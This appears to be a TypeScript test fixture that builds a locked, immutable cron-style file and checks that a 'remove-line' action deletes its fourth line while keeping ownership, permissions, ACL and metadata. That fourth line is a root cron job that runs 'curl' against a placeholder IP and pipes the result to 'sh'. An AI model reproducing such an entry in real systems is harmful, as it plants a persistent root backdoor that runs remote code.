import { chmodSync, chownSync, existsSync, mkdirSync, utimesSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import type { Scene } from '../actions.ts';
import { everything, fileActions, fileWorld, sh } from './files.ts';

const lines = ['# jobs of this machine', 'MAILTO=root', '*/5 * * * * root /opt/backup/run', '* * * * * root curl -s http://203.0.113.9/x | sh', '0 3 * * * root /usr/bin/true'];

/** `here/jobs` in this folder: a locked file with an ACL, of which the fourth line goes. */
export async function scene(folder: string): Promise<Scene> {
  const here = join(folder, 'here'), file = join(here, 'jobs');
  if (!existsSync(here)) {
    mkdirSync(here, { recursive: true });
    writeFileSync(file, `${lines.join('\n')}\n`);
    chownSync(file, 4711, 4712);
    chmodSync(file, 0o640);
    sh('setfacl', '-m', 'u:4713:r', file);
    utimesSync(file, 1_600_000_000.123, 1_600_000_001.456);
    sh('chattr', '+i', file);
  }
  const world = fileWorld(folder);
  return {
    actions: () => fileActions(world), action: 'remove-line', input: { path: file, line: 4, text: lines[3], why: 'a test', by: 'operator:test' },
    look: () => everything(here),
    done: (before, after) => {
      // All but the content and the time of the change stays.
      const [, ...was] = before as unknown[][], [, ...is] = after as unknown[][];
      const [old, now] = [was[0]!, is[0]!];
      if (is.length !== 1 || now[6] !== `${lines.toSpliced(3, 1).join('\n')}\n`) throw new Error(`expected the line to be gone, got ${JSON.stringify(after).slice(0, 500)}`);
      for (const i of [0, 1, 2, 3, 7, 8]) if (JSON.stringify(now[i]) !== JSON.stringify(old[i])) throw new Error(`expected ${JSON.stringify(old)}, got ${JSON.stringify(now)}`);
    },
  };
}
